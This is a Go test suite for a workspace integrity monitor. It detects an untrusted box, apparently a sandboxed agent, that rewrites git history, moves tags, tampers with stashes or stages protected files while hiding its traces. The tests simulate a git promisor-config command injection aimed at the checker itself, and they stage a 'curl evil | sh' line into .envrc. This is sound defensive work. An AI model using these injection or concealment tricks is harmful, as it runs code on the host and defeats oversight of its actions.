package integrity

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

// TestBranchesRewrittenAtExit (review 15, F9): a box that amends the user's last commit (same
// message and date, the reflog expired), resets another branch back, and deletes a third left
// git status, git diff and git log showing nothing new. The check at exit reports each, naming
// the old and new ids, both for loose and packed refs; a branch that moved forward (a commit)
// and a new branch are ordinary work.
func TestBranchesRewrittenAtExit(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	git := func(args ...string) string { return strings.TrimSpace(gitIn(ws, "", false, args...)) }
	git("init", "-q", "-b", "main", ws)
	for _, n := range []string{"one", "two", "three"} {
		mustWrite(t, filepath.Join(ws, n), n+"\n")
		git("add", n)
		git("commit", "-qm", n)
	}
	git("branch", "feature")
	git("branch", "old")
	git("branch", "ahead")
	git("pack-refs", "--all") // feature and old packed; main moves to a loose ref when amended
	mainWas, featureWas, oldWas := git("rev-parse", "main"), git("rev-parse", "feature"), git("rev-parse", "old")
	s := Snapshot(resolveWS(t, ws), Limits{})
	if len(s.Branches) != 1 {
		t.Fatalf("branches recorded: %v", s.Branches)
	}
	// The box: its edit folded into the user's commit three, feature reset back, old deleted,
	// ahead moved forward, a branch of its own.
	mustWrite(t, filepath.Join(ws, "Makefile"), "all:\n\t@echo BOX\n")
	git("add", "Makefile")
	git("commit", "-q", "--amend", "--no-edit", "--date="+git("log", "-1", "--format=%ad"))
	git("update-ref", "refs/heads/feature", "HEAD~2")
	git("branch", "-D", "old")
	git("checkout", "-q", "ahead")
	mustWrite(t, filepath.Join(ws, "four"), "four\n")
	git("add", "four")
	git("commit", "-qm", "four")
	git("checkout", "-q", "-b", "boxown")
	git("reflog", "expire", "--expire=now", "--all")
	if ts := s.VerifyExec(); len(ts) != 0 {
		t.Errorf("while the box runs, branch moves are not checked: %+v", ts)
	}
	wantAlerts(t, s.VerifyExit(), map[string][]string{
		"main":    {"history of the branch main was rewritten", mainWas, "git branch -f main " + mainWas},
		"feature": {"history of the branch feature was rewritten", featureWas},
		"old":     {"branch old was deleted", oldWas},
	}, "a commit, a new branch")
}

// TestAttackBranchCheckRunsNothing (protect10): the branch check at exit asks git whether a
// branch's old tip is in its new history, in every repository the snapshot found. A box that
// made a nested repository in an earlier launch writes, in this one, a configuration that
// makes it a partial clone whose promisor remote's upload-pack is its command, points the
// branch at a commit that is not there, and hides the repository past the scan's bound (here
// 8 folders, by default 200,000), so that the scan does not move the configuration aside:
// git merge-base, run with that configuration, fetched the missing commit and ran the box's
// command as the daemon's user. It must run nothing, and still say the branch changed.
func TestAttackBranchCheckRunsNothing(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	git := func(dir string, args ...string) string { return strings.TrimSpace(gitIn(dir, "", false, args...)) }
	git(ws, "init", "-q", "-b", "main", ws)
	git(ws, "commit", "-q", "--allow-empty", "-m", "top")
	nested := filepath.Join(ws, "a-repo")
	git(ws, "init", "-q", "-b", "main", nested)
	git(nested, "commit", "-q", "--allow-empty", "-m", "nested")
	was := git(nested, "rev-parse", "main")
	lim := Limits{ScanDirs: 8}
	s := Snapshot(resolveWS(t, ws), lim)
	if _, ok := s.Branches[filepath.Join(nested, ".git")]; !ok {
		t.Fatalf("the nested repository's branches were not recorded: %v", s.Branches)
	}
	// The box.
	mark := plantPromisor(t, ws, nested)
	missing := strings.Repeat("1", 40)
	mustWrite(t, filepath.Join(nested, ".git", "refs", "heads", "main"), missing+"\n")
	// The attack works against the host's git as the check ran it.
	probe := exec.Command("git", "--git-dir="+filepath.Join(nested, ".git"), "merge-base", "--is-ancestor", was, missing)
	probe.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null"}
	probe.Run()
	if _, err := os.Lstat(mark); err != nil {
		t.Fatalf("the planted configuration did not run with the host's git (the test would prove nothing): %v", err)
	}
	os.Remove(mark)

	var incomplete bool
	var alert string
	for _, tr := range s.VerifyExit() {
		incomplete = incomplete || strings.Contains(tr.Detail, "scan incomplete")
		if tr.Alert && strings.HasPrefix(tr.Path, filepath.Join(nested, ".git", "refs")) {
			alert = tr.Detail
		}
	}
	if !incomplete {
		t.Fatal("the scan reached the nested repository (the test would prove less): raise the folders made")
	}
	if _, err := os.Lstat(mark); err == nil {
		t.Error("the branch check at exit ran the command of the box's configuration")
	}
	if !strings.Contains(alert, "the branch main moved from "+was+" to "+missing) {
		t.Errorf("no alert that the nested repository's main changed: %q", alert)
	}
}

// TestBranchCheckBounded (protect10): a box that rewrote many branches onto long histories
// cannot hold the end of its launch past the check's budget: once it is spent, each branch
// left is an alert saying that whether its history was rewritten could not be told.
func TestBranchCheckBounded(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	git := func(args ...string) string { return strings.TrimSpace(gitIn(ws, "", false, args...)) }
	git("init", "-q", "-b", "main", ws)
	git("commit", "-q", "--allow-empty", "-m", "one")
	s := Snapshot(resolveWS(t, ws), Limits{})
	git("commit", "-q", "--allow-empty", "-m", "two") // forward: ordinary work, when it can be told
	defer func(b time.Duration) { branchCheckBudget = b }(branchCheckBudget)
	branchCheckBudget = 0
	wantAlerts(t, s.VerifyExit(), map[string][]string{"main": {"could not be told", "did not answer in time"}}, "none")
}

// plantPromisor is a box's plant in the repository it made at nested, in workspace ws (whose
// scan is bounded to 8 folders): a configuration that makes it a partial clone whose promisor
// remote's upload-pack command creates the file whose path it returns, and 20 folders that
// hide the repository past the scan's bound.
func plantPromisor(t *testing.T, ws, nested string) (mark string) {
	t.Helper()
	mark = filepath.Join(t.TempDir(), "ran")
	f, err := os.OpenFile(filepath.Join(nested, ".git", "config"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(f, "[extensions]\n\tpartialClone = origin\n[remote \"origin\"]\n\turl = %s\n\tpromisor = true\n\tuploadpack = \"touch %s; false\"\n", filepath.Join(ws, "none"), mark)
	f.Close()
	for i := range 20 {
		if err := os.MkdirAll(filepath.Join(ws, "z", fmt.Sprint(i)), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return mark
}

// wantAlerts checks the alerts of a check at exit, by the base name of their path: each
// names all of want's texts for it, and there are no others (ordinary says what they are).
// oneCommitRepo makes a repository on main with one commit (of f) in a new folder, skipping
// the test without git, and returns it with a function that runs git there.
func oneCommitRepo(t *testing.T) (string, func(...string) string) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	git := func(args ...string) string { return strings.TrimSpace(gitIn(ws, "", false, args...)) }
	git("init", "-q", "-b", "main", ws)
	mustWrite(t, filepath.Join(ws, "f"), "one\n")
	git("add", "f")
	git("commit", "-qm", "one")
	return ws, git
}

func wantAlerts(t *testing.T, ts []Transition, want map[string][]string, ordinary string) {
	t.Helper()
	got := map[string]string{}
	for _, tr := range ts {
		if tr.Alert {
			got[filepath.Base(tr.Path)] += tr.Detail + "\n"
		}
	}
	for name, texts := range want {
		for _, w := range texts {
			if !strings.Contains(got[name], w) {
				t.Errorf("%s: alert %q lacks %q", name, got[name], w)
			}
		}
		delete(got, name)
	}
	if len(got) != 0 {
		t.Errorf("alerts for ordinary work (%s): %v", ordinary, got)
	}
}

// TestTagsAndStashAtExit (protect10): tags never move in ordinary work, and a stash entry is
// the user's until they pop it. A box that moves a tag onto its own commit, deletes another
// (loose and packed), and rewrites one stash entry and drops another (git stash list then
// shows its own, or nothing) is reported at exit, each with the command that restores it; a
// new tag and a stash entry of the box's own are ordinary work.
func TestTagsAndStashAtExit(t *testing.T) {
	ws, git := oneCommitRepo(t)
	git("tag", "-a", "-m", "release", "v1")
	git("tag", "v0")
	git("pack-refs", "--all")
	git("tag", "loose")
	v1, loose := git("rev-parse", "v1"), git("rev-parse", "loose")
	mustWrite(t, filepath.Join(ws, "f"), "user's first\n")
	git("stash", "push", "-q", "-m", "user's first")
	mustWrite(t, filepath.Join(ws, "f"), "user's second\n")
	git("stash", "push", "-q", "-m", "second")
	first, second := git("rev-parse", "stash@{1}"), git("rev-parse", "stash@{0}")
	s := Snapshot(resolveWS(t, ws), Limits{})
	if len(s.Stash) != 1 || len(s.Branches) != 1 {
		t.Fatalf("recorded: tips %v, stash %v", s.Branches, s.Stash)
	}
	// The box: a commit of its own, v1 moved onto it, loose deleted, a new tag; the user's
	// first entry dropped, the second rewritten (popped, and its own pushed in its place).
	mustWrite(t, filepath.Join(ws, "Makefile"), "all:\n\t@echo BOX\n")
	git("add", "Makefile")
	git("commit", "-qm", "box")
	git("tag", "-f", "-a", "-m", "release", "v1")
	git("tag", "-d", "loose")
	git("tag", "boxown")
	git("stash", "drop", "-q", "stash@{1}")
	git("stash", "pop", "-q")
	mustWrite(t, filepath.Join(ws, "f"), "box's\n")
	git("stash", "push", "-q", "-m", "second")
	wantAlerts(t, s.VerifyExit(), map[string][]string{
		"v1":    {"the tag v1 was moved", "git update-ref refs/tags/v1 " + v1},
		"loose": {"the tag loose was deleted", "git update-ref refs/tags/loose " + loose},
		"stash": {"the stash entry " + first, `git stash store -m 'On main: user'\''s first' ` + first, "the stash entry " + second, "git stash store -m 'On main: second' " + second},
	}, "a commit, a new tag, the box's own stash entry")
	// What the alerts say restores what the box undid.
	git("update-ref", "refs/tags/v1", v1)
	git("stash", "store", "-m", "On main: user's first", first)
	if out := git("stash", "list"); !strings.Contains(out, "user's first") {
		t.Errorf("git stash store did not bring the entry back: %s", out)
	}
}

// TestReftableNamedAtExit (protect10): a repository in the reftable format (git 2.45 and
// later; this machine's git 2.39 cannot make one, so the test writes what git writes:
// extensions.refStorage and a reftable folder) keeps no ref files: its branches, tags and
// stash cannot be recorded, and the end of the launch says so rather than check nothing in
// silence.
func TestReftableNamedAtExit(t *testing.T) {
	ws := newWS(t)
	mustWrite(t, filepath.Join(ws, ".git/config"), "[core]\n\trepositoryformatversion = 1\n[extensions]\n\trefStorage = reftable\n")
	mustWrite(t, filepath.Join(ws, ".git/reftable/tables.list"), "")
	os.MkdirAll(filepath.Join(ws, ".git/refs"), 0o755)
	os.MkdirAll(filepath.Join(ws, ".git/objects"), 0o755)
	s := Snapshot(resolveWS(t, ws), Limits{})
	if !slices.ContainsFunc(s.VerifyExit(), func(tr Transition) bool { return tr.Alert && strings.Contains(tr.Detail, "reftable format") }) {
		t.Error("no alert at exit that the repository's refs were not checked")
	}
}

// TestRefsReadAsGitReads (review 16, F3): refReader resolves a branch as the host's git does,
// for every form of loose ref git reads (an id with text after it, a symbolic ref, a symlink
// read through or taken for a symbolic ref, a folder over a packed ref) and each it refuses: a
// differential test against git rev-parse --verify, with the branch also packed at another
// commit (what packed-refs gives it when the loose form is not read). The forms git would
// block on or read without end (a FIFO, a symlink to /dev/zero) read as broken.
func TestRefsReadAsGitReads(t *testing.T) {
	ws, git := oneCommitRepo(t)
	a := git("rev-parse", "HEAD")
	git("commit", "-q", "--allow-empty", "-m", "two")
	b := git("rev-parse", "HEAD")
	git("update-ref", "refs/wip", b)
	git("update-ref", "refs/heads/main", a)
	git("pack-refs", "--all")
	gd := filepath.Join(ws, ".git")
	loose := filepath.Join(gd, "refs", "heads", "main")
	chain := func(n int) func() {
		return func() {
			prev := "refs/wip"
			for i := range n - 1 {
				name := fmt.Sprintf("refs/c%d", i)
				mustWrite(t, filepath.Join(gd, name), "ref: "+prev+"\n")
				prev = name
			}
			mustWrite(t, loose, "ref: "+prev+"\n")
		}
	}
	text := func(s string) func() { return func() { mustWrite(t, loose, s) } }
	link := func(target string) func() {
		return func() {
			if err := os.Symlink(target, loose); err != nil {
				t.Fatal(err)
			}
		}
	}
	mustWrite(t, filepath.Join(gd, "wip-tip"), b+"\n")
	cases := map[string]func(){
		"packed":           func() {},
		"id":               text(b + "\n"),
		"id no newline":    text(b),
		"id space text":    text(b + " x\n"),
		"id tab text":      text(b + "\tx"),
		"id NUL text":      text(b + "\x00x"),
		"id VT text":       text(b + "\vx"),
		"id uppercase":     text(strings.ToUpper(b) + "\n"),
		"id short":         text(b[:39] + "\n"),
		"id sha256 length": text(b + b[:24] + "\n"),
		"empty":            text(""),
		"null id":          text(strings.Repeat("0", 40) + "\n"),
		"symref":           text("ref: refs/wip\n"),
		"symref no space":  text("ref:refs/wip"),
		"symref padded":    text("ref: \t refs/wip \n\n"),
		"symref NUL":       text("ref: refs/wip\x00junk"),
		"symref dangling":  text("ref: refs/nothing\n"),
		"symref bad name":  text("ref: refs/a..b\n"),
		"symref to self":   text("ref: refs/heads/main\n"),
		"symref chain 4":   chain(4),
		"symref chain 5":   chain(5),
		"symlink refname":  link("refs/wip"),
		"symlink file":     link("../../wip-tip"),
		"symlink dangling": link("../../nothing"),
		"symlink folder":   link("../../refs"),
		"folder":           func() { os.MkdirAll(filepath.Join(loose, "x"), 0o755) },
	}
	for name, form := range cases {
		t.Run(name, func(t *testing.T) {
			os.RemoveAll(loose)
			for i := range 5 {
				os.Remove(filepath.Join(gd, fmt.Sprintf("refs/c%d", i)))
			}
			form()
			want, err := exec.Command("git", "-C", ws, "rev-parse", "--verify", "-q", "refs/heads/main").Output()
			// The null id git gives a ref that holds it names no commit: no tip, to refReader.
			gitOK := err == nil && strings.Trim(string(want), "0\n") != ""
			if !gitOK {
				want = nil
			}
			id, _, rerr := newRefReader(gd).resolve("refs/heads/main")
			if gitOK != (rerr == nil) || strings.TrimSpace(string(want)) != id {
				t.Errorf("git reads refs/heads/main as %q (ok %v); refReader: %q, %v", strings.TrimSpace(string(want)), gitOK, id, rerr)
			}
		})
	}
	for name, form := range map[string]func(){
		"fifo":     func() { syscall.Mkfifo(loose, 0o644) },
		"dev zero": link("/dev/zero"),
		"dup packed": func() {
			os.WriteFile(filepath.Join(gd, "packed-refs"), []byte(a+" refs/heads/main\n"+b+" refs/heads/main\n"), 0o644)
		},
	} {
		t.Run(name, func(t *testing.T) {
			os.RemoveAll(loose)
			form()
			if id, _, err := newRefReader(gd).resolve("refs/heads/main"); err == nil {
				t.Errorf("refReader read refs/heads/main as %s; want it broken", id)
			}
		})
	}
}

// TestBranchMadeSymrefAtExit (review 16, F3): a branch the box made a symbolic ref follows
// another ref from then on (the user's next commit, push or checkout of it reaches that ref),
// even while both name the same commit: the check at exit reports it, with the command that
// makes it a branch of its own again; a branch the user keeps as a symbolic ref is not
// reported.
func TestBranchMadeSymrefAtExit(t *testing.T) {
	ws, git := oneCommitRepo(t)
	tip := git("rev-parse", "HEAD")
	git("branch", "dev")
	git("symbolic-ref", "refs/heads/alias", "refs/heads/dev")
	s := Snapshot(resolveWS(t, ws), Limits{})
	git("update-ref", "refs/wip", tip)
	git("symbolic-ref", "refs/heads/main", "refs/wip")
	if got := git("rev-parse", "main"); got != tip {
		t.Fatalf("main reads as %s, want %s (the test would prove nothing)", got, tip)
	}
	git("commit", "-q", "--allow-empty", "-m", "two")
	wantAlerts(t, s.VerifyExit(), map[string][]string{
		"main": {"refs/heads/main was made a symbolic ref to refs/wip", "git update-ref --no-deref refs/heads/main " + tip},
	}, "a commit on main through refs/wip, and the user's own symbolic ref alias")
}

// TestBranchTipsSymlinkLoops: a box may leave symlinks to their own folder in refs/heads (git
// itself follows symlinks to folders there). Followed, they made every branch appear under
// thousands of names (refs/heads/x/y/main, …) until the bound of 10,000 recorded refs, which
// left the user's other branches unrecorded; the snapshot records each branch once.
func TestBranchTipsSymlinkLoops(t *testing.T) {
	ws, git := oneCommitRepo(t)
	heads := filepath.Join(ws, ".git", "refs", "heads")
	for _, n := range []string{"x", "y", "z"} {
		if err := os.Symlink(".", filepath.Join(heads, n)); err != nil {
			t.Fatal(err)
		}
	}
	tips, _, _ := branchTips(filepath.Join(ws, ".git"))
	if len(tips) != 1 || tips["refs/heads/main"] != git("rev-parse", "main") {
		t.Errorf("branchTips with symlink loops in refs/heads: %d refs (%v …); want main alone, at %s", len(tips), tips["refs/heads/x/main"], git("rev-parse", "main"))
	}
}

// TestBranchTipsSaysWhatItDidNotRead: a packed-refs past the bound, or more refs of a kind than
// maxBranches, is said (review 17, F5), never read as no packed ref at all.
func TestBranchTipsSaysWhatItDidNotRead(t *testing.T) {
	gd := t.TempDir()
	if err := os.MkdirAll(filepath.Join(gd, "refs", "heads"), 0o755); err != nil {
		t.Fatal(err)
	}
	id := strings.Repeat("a", 40)
	var b strings.Builder
	b.WriteString("# pack-refs with: peeled fully-peeled sorted \n")
	for i := range 100 {
		fmt.Fprintf(&b, "%s refs/heads/b%03d\n", id, i)
	}
	if err := os.WriteFile(filepath.Join(gd, "packed-refs"), []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	tips, _, unread := branchTips(gd)
	if len(tips) != 100 || unread != "" {
		t.Fatalf("whole packed-refs: %d tips, unread %q; want 100 and none", len(tips), unread)
	}
	defer func(m int64) { maxPackedRefs = m }(maxPackedRefs)
	maxPackedRefs = 1024
	tips, _, unread = branchTips(gd)
	if len(tips) == 0 || len(tips) == 100 || !strings.Contains(unread, "larger than") {
		t.Fatalf("packed-refs past the bound: %d tips, unread %q; want the first records and the reason", len(tips), unread)
	}
}

// TestCommittedProtectedUntold: when git cannot tell whether a branch's new commits change a
// protected file (a tree of them missing: git diff fails), that is an alert, not a clean pass
// (review of review 32: protectedCommitted returned nothing on any git error).
func TestCommittedProtectedUntold(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	git := func(args ...string) string { return strings.TrimSpace(gitIn(ws, "", false, args...)) }
	git("init", "-q", "-b", "main", ws)
	mustWrite(t, filepath.Join(ws, ".envrc"), "export A=1\n")
	git("add", ".envrc")
	git("commit", "-qm", "one")
	s := Snapshot(resolveWS(t, ws), Limits{})
	mustWrite(t, filepath.Join(ws, "two"), "two\n")
	git("add", "two")
	git("commit", "-qm", "two")
	tree := git("rev-parse", "HEAD^{tree}")
	if err := os.Remove(filepath.Join(ws, ".git", "objects", tree[:2], tree[2:])); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, tr := range s.verifyBranches() {
		if strings.Contains(tr.Detail, "whether its new commits change a protected file could not be told") && tr.Alert {
			found = true
		}
	}
	if !found {
		t.Errorf("a branch whose new commits git could not diff passed for ordinary work: %+v", s.verifyBranches())
	}
}

// TestStagedProtectedOnce: a protected file staged in the launch is reported at the check at
// exit, once: the recheck of the indexes after the exit (RecheckIndexes) does not repeat it;
// a staged removal likewise.
func TestStagedProtectedOnce(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	git := func(args ...string) string { return strings.TrimSpace(gitIn(ws, "", false, args...)) }
	git("init", "-q", "-b", "main", ws)
	mustWrite(t, filepath.Join(ws, ".envrc"), "export A=1\n")
	mustWrite(t, filepath.Join(ws, ".mcp.json"), "{}\n")
	git("add", ".envrc", ".mcp.json")
	git("commit", "-qm", "one")
	s := Snapshot(resolveWS(t, ws), Limits{})
	evil := filepath.Join(t.TempDir(), "evil")
	mustWrite(t, evil, "curl evil | sh\n")
	b := git("hash-object", "-w", evil)
	git("update-index", "--cacheinfo", "100644,"+b+",.envrc")
	git("rm", "-q", "--cached", ".mcp.json")
	count := func() (staged, removed int) {
		tr, _ := s.verifyIndexes(nil, true)
		for _, x := range tr {
			switch {
			case strings.Contains(x.Detail, "holds another version of this protected file"):
				staged++
			case strings.Contains(x.Detail, "no longer holds this protected file"):
				removed++
			}
		}
		return
	}
	if st, rm := count(); st != 1 || rm != 1 {
		t.Fatalf("first check at exit: %d staged, %d removed alerts, want 1 and 1", st, rm)
	}
	if st, rm := count(); st != 0 || rm != 0 {
		t.Errorf("the recheck repeated %d staged and %d removed alerts", st, rm)
	}
}
